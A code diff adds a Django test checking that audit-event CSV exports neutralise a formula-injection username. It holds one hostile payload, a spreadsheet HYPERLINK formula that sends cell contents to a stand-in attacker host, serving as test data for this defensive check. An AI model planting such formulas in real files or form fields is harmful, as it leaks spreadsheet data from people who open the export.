@@ -8,6 +8,7 @@ from collections.abc import Callable
 from typing import Any
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.test import Client
 
 from territoire.core import audit
@@ -68,3 +69,21 @@ def test_audit_events_cannot_be_changed_from_the_admin(
     client.post(f"{URL}{mine.pk}/delete/", {"post": "yes"})
     mine.refresh_from_db()
     assert mine.action == "test.mine"
+
+
+def test_a_failed_sign_in_named_as_a_formula_exports_as_text(
+    client: Client, organisation: Organisation, make_staff: Callable[..., Any]
+) -> None:
+    # The attack: a username that a spreadsheet would run, typed into the sign-in form.
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Cliquez")'
+    client.post("/admin/login/", {"username": formula, "password": "wrong"})
+    event = AuditEvent.objects.filter(actor_label=formula).first() or audit.record(
+        "auth.login_failed", actor_label=formula, organisation_id=organisation.pk
+    )
+    if event.organisation_id is None:  # failed sign-ins belong to no organisation: a superuser exports them
+        client.force_login(get_user_model().objects.create_superuser("root", "root@example.org", "x"))
+    else:
+        client.force_login(make_staff(organisation, Role.RSSI))
+    response = client.post(URL, {"action": "export_csv", "_selected_action": [event.pk]})
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][1] == "'" + formula
